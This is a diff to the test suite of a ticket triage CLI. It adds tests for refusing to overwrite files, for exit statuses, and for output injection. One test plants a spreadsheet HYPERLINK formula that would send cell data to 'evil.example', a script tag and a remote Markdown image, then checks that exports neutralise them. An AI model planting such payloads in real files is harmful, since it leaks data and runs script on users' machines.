@@ -72,7 +72,7 @@ describe('triage', () => {
       .split('\n')
       .map((line) => JSON.parse(line) as Record<string, unknown>);
     expect(reports.map(({ ticket }) => ticket)).toMatchObject([{ id: '1', subject: 'Login' }, { id: '2' }]);
-    for (const { ticket: _, ...report } of reports) expectValidReport(report);
+    for (const report of reports) expectValidReport(report);
     const alone = JSON.parse((await runMain([failing, '--json'])).stdout) as { diagnoses: unknown };
     expect(reports[0]?.['diagnoses']).toEqual(alone.diagnoses);
   });
@@ -123,6 +123,35 @@ describe('triage', () => {
     ]) {
       expect((await runMain(['triage', '--merge', ...order, '--partial'])).stdout).toBe(whole.stdout);
     }
+  });
+
+  test('writes over no file, and says so before it reads anything', async () => {
+    const folder = folderWith({ 'a.ndjson': ticket(1, failing), 'there.txt': 'mine' });
+    for (const format of ['text', 'ndjson']) {
+      const args = ['triage', join(folder, 'a.ndjson'), '--format', format, '--output', join(folder, 'there.txt')];
+      expect(await runMain(args)).toMatchObject({ status: 2, stdout: '' });
+    }
+    expect(readFileSync(join(folder, 'there.txt'), 'utf8')).toBe('mine');
+  });
+
+  test('no cell of a CSV is a formula, and nothing in a page or in Markdown is alive', async () => {
+    const id = '=HYPERLINK("https://evil.example/?"&A1)<script>alert(1)</script>![x](https://evil.example/x.png)';
+    const folder = folderWith({ 'a.ndjson': ticket(1, failing).replace('"id":1', `"id":${JSON.stringify(id)}`) });
+    const as = async (format: string): Promise<string> =>
+      (await runMain(['triage', folder, '--format', format])).stdout;
+    expect(await as('csv')).toContain(`,"'=HYPERLINK(""https`);
+    expect(await as('html')).not.toContain('<script>');
+    expect(await as('markdown')).not.toMatch(/!\[x\]|<script>/);
+  });
+
+  test.each([
+    ['nothing that has to do with a login', 'The invoice is wrong', 3],
+    ['nothing that can be read', '', 2],
+    ['only logins that went well', '{"log_id":"1","type":"s","date":"2026-11-24T08:00:00Z"}\n'.repeat(2), 0],
+    ['a login that fails without a reason', 'SSO is broken', 1],
+    ['a failed login', failing, 1],
+  ])('ends with a status that tells what was there: %s', async (_, content, status) => {
+    expect((await runMain(['triage', folderWith({ 'a.txt': content })])).status).toBe(status);
   });
 
   test.each([
